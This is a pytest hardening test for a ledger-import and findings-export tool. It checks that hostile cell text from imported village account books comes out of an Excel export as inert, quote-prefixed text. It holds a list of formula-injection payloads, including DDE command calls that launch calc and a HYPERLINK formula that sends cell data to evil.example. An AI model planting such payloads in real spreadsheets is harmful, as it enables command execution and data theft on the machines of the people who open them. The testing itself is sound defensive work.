"""Hostile cell text from an imported ledger reaches ``xuncha export`` as inert text.

A village ledger is written by whoever kept the books. Text that a spreadsheet
would run (=cmd|' /C calc'!A0, +1+1, -2+3, @SUM(A1), a leading tab or CR, a
DDE call) flows from the imported rows into flags (titles, details), into the
findings notebook (evidence rows with their raw cells, notes) and into the
rejected-rows sheet. Read back with openpyxl, the exported workbook must hold
no formula at all, every text that starts like a formula must carry Excel's
quote prefix, no text may exceed Excel's 32 767 characters, and no control
character Excel rejects may survive.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

import importers
from tests.hardening import corpus
from tests.hardening.conftest import run_cli
from xuncha import findings
from xuncha.export import FORMULA_TRIGGERS, MAX_CELL_CHARS, write_findings_workbook
from xuncha.flags import current_flags
from xuncha.scan import run_scan
from xuncha.store import Store

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=1+1\x01\x02\x1f控制字符",
    "长" * 40_000,
    "=" + "A" * 40_000,
]
PAYMENT_HEADER = ["凭证号", "日期", "摘要", "支出", "往来单位", "结算方式", "经手人"]


def hostile_ledger(path: Path) -> Path:
    rows: list[list[object]] = [["石桥村2023年收支明细账"], PAYMENT_HEADER]
    for i, payload in enumerate(PAYLOADS, start=1):
        # Cash payments above the 1000-yuan limit: each becomes a large_cash flag with its evidence.
        rows.append([f"记-{i:03d}", f"2023-03-{i:02d}", payload, 5000 + i, payload, "现金", payload[:50]])
    # A row whose amount is a payload: a warning or a rejected row with the value kept.
    rows.append(["记-999", "2023-04-01", "支付材料款", "=cmd|' /C calc'!A0", "宏达建设", "现金", "张三"])
    body = []
    for number, values in corpus.table_rows(rows):
        xml = corpus.row_xml(number, values)
        for ch in "\x01\x02\x1f\t\r":  # XML cannot hold these raw: Excel writes them escaped
            xml = xml.replace(ch, f"_x{ord(ch):04X}_")
        body.append(xml.encode())
    chunks = list(corpus.sheet_xml([]))
    return corpus.write_raw_xlsx(path, [("收支明细", [*chunks[:-1], *body, chunks[-1]])])


@pytest.fixture(scope="module")
def notebook(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store with the hostile ledger imported, scanned, its flags taken into the notebook."""
    folder = tmp_path_factory.mktemp("hostile")
    db = folder / "store.db"
    with Store(db) as store:
        report = importers.import_paths(store, [hostile_ledger(folder / "收支明细.xlsx")])
        assert report.files[0].status == "imported", report.files[0].message
        run_scan(store)
        flags = current_flags(store, rule="large_cash")
        assert len(flags) >= len(PAYLOADS) - 1, [f.title for f in flags]
        for flag in flags:
            finding = findings.add_from_flag(store, flag.id)
        findings.add_note(store, finding.id, "=cmd|' /C calc'!A0 备注里的公式")
        manual = findings.add_manual(store, title="=HYPERLINK(\"http://evil.example\")", village="石桥村",
                                     notes="+1+1", detail="@SUM(A1)",
                                     evidence=[r.id for r in store.records("payment")[:3]])
        findings.set_status(store, manual.id, "confirmed", note="-2+3")
        for title in ("+1+1 手工录入", "-2+3 手工录入", "@SUM(A1) 手工录入", "\t=1+1 手工录入"):
            findings.add_manual(store, title=title, village="石桥村")  # a title pasted from a ledger
    return db


def exported_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def check_inert(path: Path) -> list[str]:
    """The workbook's texts, after asserting that none of them can run."""
    texts: list[str] = []
    for cell in exported_cells(path):
        assert cell.data_type != "f", (cell.parent.title, cell.coordinate, cell.value)
        value = cell.value
        if value is None or not isinstance(value, str):
            if value is not None and not isinstance(value, (int, float)):
                value = str(value)  # rich text
            else:
                continue
        texts.append(value)
        assert len(value) <= MAX_CELL_CHARS, (cell.coordinate, len(value))
        assert not ILLEGAL_CHARACTERS_RE.search(value), (cell.coordinate, value[:40])
        if value.startswith(FORMULA_TRIGGERS):
            assert cell.quotePrefix, (cell.parent.title, cell.coordinate, value[:40])
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        assert not any("externalLink" in n or "connections" in n for n in names), names
        for name in names:
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name)
                assert not re.search(rb"<(?:\w+:)?f[ >/]", xml), name  # no formula element anywhere
                assert b"ddeLink" not in xml
    return texts


@pytest.mark.parametrize("mask", [False, True], ids=["plain", "masked"])
def test_cli_export_of_hostile_text_is_inert(notebook: Path, tmp_path: Path, mask: bool) -> None:
    out = tmp_path / "问题清单.xlsx"
    result = run_cli(notebook, "export", str(out), *(["--mask"] if mask else []))
    assert result.returncode == 0, result.stderr
    texts = check_inert(out)
    joined = "\n".join(texts)
    # The test is not vacuous: the payloads did reach the workbook, as text.
    for payload in ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "=DDE(", "=HYPERLINK("):
        assert payload in joined, payload
    assert any(t.startswith("=cmd|") for t in texts)  # the rejected amount, as imported
    for start in ("=HYPERLINK(", "+1+1", "-2+3", "@SUM(A1)", "=1+1 手工录入"):  # the tab is stripped
        assert any(t.startswith(start) for t in texts), start  # quotePrefix was checked on each
    assert any("内容过长已截断" in t for t in texts)  # the 40 000-character cells were cut, with a marker


def test_in_process_export_is_inert_and_private(notebook: Path, tmp_path: Path) -> None:
    out = write_findings_workbook(Store(notebook), tmp_path / "导出" / "清单.xlsx")
    check_inert(out)
    assert out.stat().st_mode & 0o777 == 0o600
